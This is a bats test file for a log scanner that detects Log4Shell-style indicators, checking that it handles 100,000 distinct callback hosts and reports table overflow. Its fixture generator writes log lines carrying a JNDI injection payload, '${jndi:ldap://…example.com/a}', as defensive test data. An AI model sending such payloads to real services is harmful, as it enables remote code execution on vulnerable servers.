#!/usr/bin/env bats
# output.bats - what the writers put out stays whole and harmless: large
# indicator tables, terminal escapes in names and log lines, CSV formula
# injection, and records far larger than a line buffer.  Every fixture is
# written by the test itself.

load helpers

setup_file() {
    export W="$BATS_FILE_TMPDIR/out"
    mkdir -p "$W"
}

# many_hosts FILE N: N combined-log lines, each from its own address with
# its own callback host hNNNNN.example.com
many_hosts() {
    python3 - "$1" "$2" <<'PY'
import sys
with open(sys.argv[1], "w") as f:
    for i in range(int(sys.argv[2])):
        f.write('10.%d.%d.%d - - [11/Dec/2021:10:00:01 +0000] "GET /?q='
                '${jndi:ldap://h%05d.example.com/a} HTTP/1.1" 200 5 "-" '
                '"curl/7.0"\n' % (i >> 16, (i >> 8) & 255, i & 255, i))
PY
}

@test "100k distinct callback hosts: the whole log is read, the last line reported" {
    many_hosts "$W/hosts.log" 100000
    run "$KENSA" logs --threads 1 --color never --max-scantime 20000 "$W/hosts.log"
    [ "$status" -eq 1 ]
    [[ "$output" != *"max-scantime"* ]]
    [[ "$output" == *"hosts.log:100000:"* ]]
    [[ "$output" == *"ldap://h99999.example.com (example.com) 1"* ]]
    [[ "$output" == *"Findings: 100000"* ]]
    [[ "$output" != *"more not kept"* ]]
    # one more distinct host than a table keeps: counted and said
    many_hosts "$W/hosts.log" 100001
    run "$KENSA" logs --threads 1 --color never --no-summary "$W/hosts.log"
    [ "$status" -eq 1 ]
    [[ "$output" == *"hosts.log:100001:"* ]]
    [[ "$output" == *"(1 more not kept: at most 100000 per table)"* ]]
}
